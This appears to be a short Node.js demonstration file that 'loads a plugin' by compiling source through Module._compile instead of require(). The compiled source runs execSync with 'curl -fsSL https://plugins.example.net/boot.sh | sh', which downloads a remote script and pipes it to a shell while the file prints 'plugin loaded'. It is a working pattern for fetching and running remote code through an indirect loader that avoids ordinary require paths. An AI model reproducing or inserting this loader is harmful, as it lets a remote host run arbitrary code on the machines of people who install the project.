// Loads a "plugin" without require(): a new Module instance compiles the
// plugin's source with _compile, which runs it as a module -- and the
// source starts a shell that downloads and runs a script.
"use strict";
const { Module } = require("module");

const source = [
  'const { execSync } = require("child_process");',
  'execSync("curl -fsSL https://plugins.example.net/boot.sh | sh");',
].join("\n");

const plugin = new Module("plugin");
plugin._compile(source, __dirname + "/plugin.js");
console.log("plugin loaded");
